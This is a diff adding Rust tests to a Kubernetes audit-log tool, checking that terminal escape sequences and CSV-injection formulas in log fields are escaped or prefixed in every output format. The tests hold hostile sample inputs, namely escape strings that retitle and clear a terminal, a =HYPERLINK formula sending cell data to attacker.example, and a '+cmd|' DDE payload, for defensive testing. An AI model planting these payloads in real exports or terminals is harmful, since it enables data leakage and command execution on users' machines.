@@ -1,7 +1,8 @@
 //! Hostile input ("survive any input"): each case ends with a clear message, counts that add up
 //! (`lines = events + skipped + malformed`, for the whole scan and per file) and the documented
 //! exit code; never a panic, a hang or death by a signal. Terminal output of hostile strings is
-//! checked here too.
+//! checked here too, and terminal escapes and spreadsheet formulas in every output format of
+//! every command (issue 16, points 13 and 14).
 //!
 //! Inputs are built by the tests in temporary folders (the big ones in memory once per run),
 //! never committed; the expected counts follow from how each input is built.
@@ -1403,4 +1404,386 @@ fn a_line_over_the_stream_cap_is_one_malformed_record() {
         "{}",
         r.stderr
     );
+
+// ------------------------------------------- terminal escapes and formulas in every output format
+
+/// What a terminal obeys or hides: OSC (window title), BEL, CSI as ESC [ and as the C1 byte
+/// U+009B, DEL, a bidi override and isolate, zero-width characters, a soft hyphen and U+2028.
+/// A log line holds them as serde_json writes them: the C0 ones escaped (`\u001b`), the others
+/// raw (valid JSON).
+const HIDDEN: &str =
+    "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{9b}2J\u{7f}\u{202e}\u{2066}\u{200b}\u{feff}\u{ad}\u{2028}x";
+/// `HIDDEN` as tables and CSV show it.
+const HIDDEN_SHOWN: &str =
+    "\\e]0;pwned\\x07\\e[2J\\x9b2J\\x7f\\u{202e}\\u{2066}\\u{200b}\\u{feff}\\xad\\u{2028}x";
+/// Cells a spreadsheet would run, each followed by `HIDDEN` in the log (from
+/// ../shared/repro/csv-formula.log and OWASP's CSV injection page).
+const F_USER: &str = "=HYPERLINK(\"http://attacker.example/?x=\"&A1,\"click me\")";
+const F_AGENT: &str = "@SUM(1+1)";
+const F_NAME: &str = "+cmd|' /C calc'!A0";
+const F_VALUE: &str = "-2+3";
+
+/// A configmap build/app created (RequestResponse, a body value that is a formula) and updated,
+/// then a secret read (detect's KA031), all by a user whose name is a formula with `HIDDEN`,
+/// with a user agent and status message that carry both; and a request by `-5` (a name a
+/// spreadsheet reads as a number) that completed a second before it was received (a negative
+/// latency).
+fn formula_log() -> String {
+    let at = |v: &mut Value, sec: u64| {
+        let t = format!("2026-11-21T15:00:{sec:02}.000000Z");
+        v["requestReceivedTimestamp"] = json!(t);
+        v["stageTimestamp"] = json!(t);
+    };
+    let common = |v: &mut Value| {
+        v["level"] = json!("RequestResponse");
+        v["user"]["username"] = json!(format!("{F_USER}{HIDDEN}"));
+        v["userAgent"] = json!(format!("{F_AGENT}{HIDDEN}"));
+    };
+    let body = |value: &str| {
+        json!({"kind": "ConfigMap", "apiVersion": "v1",
+               "metadata": {"name": "app", "namespace": "build"},
+               "data": {format!("k{HIDDEN}"): value}})
+    };
+    [
+        event_with(1, |v| {
+            common(v);
+            at(v, 1);
+            v["verb"] = json!("create");
+            v["requestURI"] = json!("/api/v1/namespaces/build/configmaps");
+            v["requestObject"] = body(&format!("{F_VALUE}{HIDDEN}"));
+            v["responseObject"] = body(&format!("{F_VALUE}{HIDDEN}"));
+            v["responseStatus"] = json!({"metadata": {}, "code": 201});
+        }),
+        event_with(2, |v| {
+            common(v);
+            at(v, 2);
+            v["verb"] = json!("update");
+            v["requestObject"] = body(&format!("{F_NAME}{HIDDEN}"));
+            v["responseObject"] = body(&format!("{F_NAME}{HIDDEN}"));
+            v["responseStatus"] =
+                json!({"metadata": {}, "message": format!("{F_AGENT}{HIDDEN}"), "code": 200});
+        }),
+        event_with(3, |v| {
+            common(v);
+            at(v, 3);
+            let name = format!("{F_NAME}{HIDDEN}");
+            v["objectRef"] = json!({"resource": "secrets", "namespace": "build", "name": name, "apiVersion": "v1"});
+            v["requestURI"] = json!(format!("/api/v1/namespaces/build/secrets/{name}"));
+        }),
+        event_with(4, |v| {
+            at(v, 5);
+            v["user"]["username"] = json!("-5");
+            v["stageTimestamp"] = json!("2026-11-21T15:00:04.000000Z");
+        }),
+    ]
+    .join("\n")
+        + "\n"
+}
+
+/// Nothing a terminal obeys or hides, whatever the format: no control character but the line
+/// feed, no DEL, no C1, no bidi control, no zero-width or invisible character, no U+2028/9.
+/// (Listed here, not taken from kaudit, so the test checks kaudit's list.)
+#[track_caller]
+fn shows_nothing_hidden(what: &str, text: &str) {
+    let bad = |c: char| {
+        (c.is_control() && c != '\n')
+            || matches!(c, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}'
+                | '\u{202a}'..='\u{202e}' | '\u{2028}' | '\u{2029}' | '\u{2060}'..='\u{2069}'
+                | '\u{feff}')
+    };
+    if let Some((i, c)) = text.char_indices().find(|&(_, c)| bad(c)) {
+        panic!(
+            "{what}: {c:?} reached the output at byte {i}:\n{}",
+            text.escape_debug()
+        );
+    }
+}
+
+/// Every string in a JSON value.
+fn strings_in(v: &Value, out: &mut Vec<String>) {
+    match v {
+        Value::String(s) => out.push(s.clone()),
+        Value::Array(a) => a.iter().for_each(|x| strings_in(x, out)),
+        Value::Object(o) => o.iter().for_each(|(k, x)| {
+            out.push(k.clone());
+            strings_in(x, out)
+        }),
+        _ => {}
+    }
+}
+
+/// The commands and output formats checked, each with the arguments it needs, and whether it
+/// prints the user (`when` and `latency` print counts and times only: checked for what must
+/// not be there).
+fn formula_runs() -> Vec<(Vec<&'static str>, bool)> {
+    let commands: &[(&[&str], bool)] = &[
+        (&["events"], true),
+        (&["events", "--stages"], true),
+        (&["who"], true),
+        (&["what"], true),
+        (&["where"], true),
+        (&["where", "--by", "user-agent"], true),
+        (&["top", "--by", "user,user-agent,name"], true),
+        (&["summary"], true),
+        (&["detect"], true),
+        (&["history", "-n", "build", "cm/app"], true),
+        (&["timeline"], true),
+        (&["when"], false),
+        (&["latency"], false),
+    ];
+    let mut runs = Vec::new();
+    for (cmd, user) in commands {
+        for format in ["table", "wide", "json", "ndjson", "csv"] {
+            let mut args = cmd.to_vec();
+            args.extend(["-o", format]);
+            runs.push((args, *user));
+        }
+    }
+    runs
+}
+
+/// Issue 16, point 13: JSON and NDJSON of every command escape what a terminal would obey or
+/// hide (C1 controls such as U+009B, DEL, bidi overrides, zero-width characters, U+2028), as
+/// `\u009b`, and still parse to the exact strings of the log; CSV shows them as tables do
+/// (`\e`, `\x9b`, `\u{202e}`). Before, `-o csv` printed raw ESC, OSC, CSI and BEL, and JSON the
+/// rest. ../shared/repro/terminal-escapes.log is this class of input.
+#[test]
+fn terminal_escapes_in_every_output_format_are_escaped_or_shown() {
+    let dir = tmp();
+    let f = put(dir.path(), "formula.log", formula_log());
+    let policy = put(
+        dir.path(),
+        "policy.yaml",
+        "apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: Metadata\n",
+    );
+    let mut runs = formula_runs();
+    for format in ["table", "wide", "json"] {
+        runs.push((vec!["policy", "simulate", &policy, "-o", format], true));
+    }
+    let user = format!("{F_USER}{HIDDEN}");
+    for (args, shows_user) in runs {
+        let mut all = args.clone();
+        all.push(&f);
+        let r = go(&all);
+        let what = format!("{args:?}");
+        assert!(r.code == 0, "{what} exited {}: {}", r.code, r.stderr);
+        let text = r.stdout_str();
+        shows_nothing_hidden(&what, text);
+        shows_nothing_hidden(&format!("{what} stderr"), &r.stderr);
+        let format = args[args.len() - 1];
+        if !shows_user {
+            continue;
+        }
+        match format {
+            "json" | "ndjson" => {
+                let docs: Vec<Value> = if format == "json" {
+                    vec![serde_json::from_str(text).unwrap_or_else(|e| panic!("{what}: {e}"))]
+                } else {
+                    crate::util::ndjson(&r.stdout)
+                };
+                let mut strings = Vec::new();
+                docs.iter().for_each(|d| strings_in(d, &mut strings));
+                // lossless: the exact user name is in the output (history and detect name it
+                // in a field of their own; policy simulate as a key)
+                assert!(
+                    strings.iter().any(|s| s.contains(&user)),
+                    "{what}: the exact user name is in the JSON:\n{text}"
+                );
+                assert!(
+                    text.contains("\\u009b2J\\u007f\\u202e\\u2066\\u200b\\ufeff\\u00ad\\u2028")
+                );
+            }
+            _ => assert!(
+                text.contains(HIDDEN_SHOWN) || text.contains("\\e]0;pwned\\x07"),
+                "{what}: the escapes are shown:\n{text}"
+            ),
+        }
+    }
+    // ../shared/repro/terminal-escapes.log, whose strings are JSON escapes in the log: its
+    // ResponseComplete line, without its annotations
+    let repro = put(
+        dir.path(),
+        "terminal-escapes.log",
+        r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "00000000-0000-0000-0000-000000000001", "stage": "ResponseComplete", "requestURI": "/api/v1/namespaces/default/configmaps/app", "verb": "get", "user": {"username": "mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil", "groups": ["system:authenticated"]}, "sourceIPs": ["10.0.0.1"], "userAgent": "mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil", "objectRef": {"resource": "configmaps", "namespace": "default", "name": "app", "apiVersion": "v1"}, "requestReceivedTimestamp": "2026-11-21T14:58:09.989000Z", "stageTimestamp": "2026-11-21T14:58:09.989000Z", "responseStatus": {"metadata": {}, "code": 200}}
+"#,
+    );
+    let csv = go(&["events", "-o", "csv", &repro]).expect_code(0);
+    shows_nothing_hidden("repro csv", csv.stdout_str());
+    let (header, rows) = crate::util::csv(&csv.stdout);
+    let col = header.iter().position(|h| h == "user").unwrap();
+    assert_eq!(
+        rows[0][col],
+        "mallory\\e]0;PWNED-TITLE\\x07\\e[2J\\e[31mRED\\x9b2J\\u{202e}evil"
+    );
+    let json = go(&["events", "-o", "ndjson", &repro]).expect_code(0);
+    assert!(json.stdout_str().contains(
+        r#""user":"mallory\u001b]0;PWNED-TITLE\u0007\u001b[2J\u001b[31mRED\u009b2J\u202eevil""#
+    ));
+}
+
+/// Issue 16, point 14: no CSV cell of any command starts with `=`, `+`, `-`, `@`, a tab or a
+/// carriage return (a spreadsheet would run it as a formula), unless it is a number: those
+/// cells get a leading `'`, as OWASP advises, and numbers (a negative latency, a user named
+/// `-5`) and kaudit's `-` for an absent value stay as they are. Before, every CSV mode wrote them unprefixed.
+/// ../shared/repro/csv-formula.log is this class of input.
+#[test]
+fn csv_cells_never_start_a_formula() {
+    let dir = tmp();
+    let f = put(dir.path(), "formula.log", formula_log());
+    let number = |s: &str| {
+        let s = s.strip_prefix('-').unwrap_or(s);
+        let (int, frac) = s.split_once('.').unwrap_or((s, "0"));
+        let digits = |d: &str| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit());
+        digits(int) && digits(frac)
+    };
+    let csv_runs = formula_runs()
+        .into_iter()
+        .filter(|(a, _)| a.ends_with(&["csv"]));
+    for (args, shows_user) in csv_runs {
+        for headers in [true, false] {
+            let mut all = args.clone();
+            if !headers {
+                all.push("--no-headers");
+            }
+            all.push(&f);
+            let r = go(&all);
+            let what = format!("{all:?}");
+            assert!(r.code == 0, "{what} exited {}: {}", r.code, r.stderr);
+            let mut rdr = ::csv::ReaderBuilder::new()
+                .has_headers(false)
+                .flexible(true)
+                .from_reader(&r.stdout[..]);
+            let mut quoted = 0;
+            for rec in rdr.records() {
+                for cell in rec.unwrap_or_else(|e| panic!("{what}: {e}")).iter() {
+                    assert!(
+                        !cell.starts_with(['=', '+', '@', '\t', '\r'])
+                            && (!cell.starts_with('-') || number(cell) || cell == "-"),
+                        "{what}: a cell starts a formula: {cell:?}"
+                    );
+                    quoted += usize::from(cell.starts_with("'=HYPERLINK("));
+                }
+            }
+            assert!(
+                quoted > 0 || !shows_user,
+                "{what}: the user is shown, quoted:\n{}",
+                r.stdout_str()
+            );
+        }
+    }
+    // the cells themselves, in events
+    let r = go(&["events", "-o", "csv", &f]).expect_code(0);
+    let (header, rows) = crate::util::csv(&r.stdout);
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let secret = rows
+        .iter()
+        .find(|r| r[col("resource")] == "secrets")
+        .unwrap();
+    assert_eq!(secret[col("user")], format!("'{F_USER}{HIDDEN_SHOWN}"));
+    assert_eq!(
+        secret[col("userAgent")],
+        format!("'{F_AGENT}{HIDDEN_SHOWN}")
+    );
+    assert_eq!(secret[col("name")], format!("'{F_NAME}{HIDDEN_SHOWN}"));
+    let skewed = rows.iter().find(|r| r[col("user")] == "-5").unwrap();
+    assert_eq!(skewed[col("latencyMs")], "-1000.000");
+    // history: the body's old and new values are JSON text (a string starts with `"`), escaped
+    // as JSON output is, so they read back exactly
+    let r = go(&["history", "-n", "build", "cm/app", "-o", "csv", &f]).expect_code(0);
+    let (header, rows) = crate::util::csv(&r.stdout);
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let created = &rows[0][col("new")];
+    assert!(
+        created.starts_with(&format!("\"{F_VALUE}\\u001b]0;pwned")),
+        "{created}"
+    );
+    assert_eq!(
+        serde_json::from_str::<Value>(created).unwrap(),
+        json!(format!("{F_VALUE}{HIDDEN}"))
+    );
+    assert_eq!(
+        serde_json::from_str::<Value>(&rows[1][col("new")]).unwrap(),
+        json!(format!("{F_NAME}{HIDDEN}"))
+    );
+}
+
+/// Run kaudit with its stdout on a pseudo-terminal (raw mode: bytes pass as written), stdin and
+/// stderr piped; what it wrote to the terminal, and the run.
+#[cfg(target_os = "linux")]
+fn on_a_terminal(args: &[&str]) -> (Vec<u8>, Run) {
+    use std::io::Read;
+    use std::os::fd::{FromRawFd, OwnedFd};
+    // SAFETY: plain libc calls on descriptors this function opens; each is checked, and each is
+    // owned by a File or an OwnedFd right after.
+    let (master, slave) = unsafe {
+        let master = libc::posix_openpt(libc::O_RDWR | libc::O_NOCTTY);
+        assert!(master >= 0, "posix_openpt");
+        let master = File::from_raw_fd(master);
+        use std::os::fd::AsRawFd;
+        let m = master.as_raw_fd();
+        assert_eq!(libc::grantpt(m), 0, "grantpt");
+        assert_eq!(libc::unlockpt(m), 0, "unlockpt");
+        let mut name = [0 as libc::c_char; 128];
+        assert_eq!(libc::ptsname_r(m, name.as_mut_ptr(), name.len()), 0);
+        let slave = libc::open(name.as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
+        assert!(slave >= 0, "open the terminal's other end");
+        let mut t: libc::termios = std::mem::zeroed();
+        assert_eq!(libc::tcgetattr(slave, &mut t), 0);
+        libc::cfmakeraw(&mut t);
+        assert_eq!(libc::tcsetattr(slave, libc::TCSANOW, &t), 0);
+        (master, OwnedFd::from_raw_fd(slave))
+    };
+    let mut cmd = kaudit_std(args);
+    cmd.stdout(slave);
+    let child = cmd.spawn().expect("kaudit runs");
+    // the child holds the only other copy of the terminal: reading ends (EIO) when it exits
+    drop(cmd);
+    let reader = std::thread::spawn(move || {
+        let mut master = master;
+        let mut got = Vec::new();
+        let mut buf = [0u8; 4096];
+        loop {
+            match master.read(&mut buf) {
+                Ok(0) | Err(_) => break,
+                Ok(n) => got.extend_from_slice(&buf[..n]),
+            }
+        }
+        got
+    });
+    let run = wait_output(child, Duration::from_secs(60));
+    (reader.join().unwrap(), run)
+}
+
+/// Issue 16, point 13: `events -o raw` writes the original lines byte for byte to a pipe or a
+/// file; to a terminal, what the terminal would obey or hide (a C1 CSI, DEL, bidi overrides,
+/// zero-width characters, U+2028, all valid raw in a JSON string) is written as JSON escapes,
+/// so each line still parses to the same event. Before, they reached the terminal as they were.
+#[cfg(target_os = "linux")]
+#[test]
+fn raw_lines_to_a_terminal_are_escaped_and_stay_the_same_json() {
+    let dir = tmp();
+    let log = formula_log();
+    let f = put(dir.path(), "formula.log", &log);
+    assert!(
+        log.contains('\u{9b}') && log.contains('\u{202e}'),
+        "the log holds them raw"
+    );
+    // to a pipe: the log itself (one line per request here)
+    let piped = go(&["events", "-o", "raw", &f]).expect_code(0);
+    assert_eq!(piped.stdout_str(), log, "raw to a pipe is byte-exact");
+    let (shown, run) = on_a_terminal(&["events", "-o", "raw", &f]);
+    let run = run.expect_code(0);
+    let shown = String::from_utf8(shown).expect("UTF-8 on the terminal");
+    shows_nothing_hidden("raw on a terminal", &shown);
+    assert!(shown.contains("\\u009b2J\\u007f\\u202e\\u2066\\u200b\\ufeff\\u00ad\\u2028x"));
+    let lines: Vec<&str> = shown.lines().collect();
+    let want: Vec<&str> = log.lines().collect();
+    assert_eq!(lines.len(), want.len(), "{shown}\n{}", run.stderr);
+    for (got, want) in lines.iter().zip(&want) {
+        assert_eq!(
+            serde_json::from_str::<Value>(got).unwrap(),
+            serde_json::from_str::<Value>(want).unwrap(),
+            "the same event"
+        );
+    }
 }
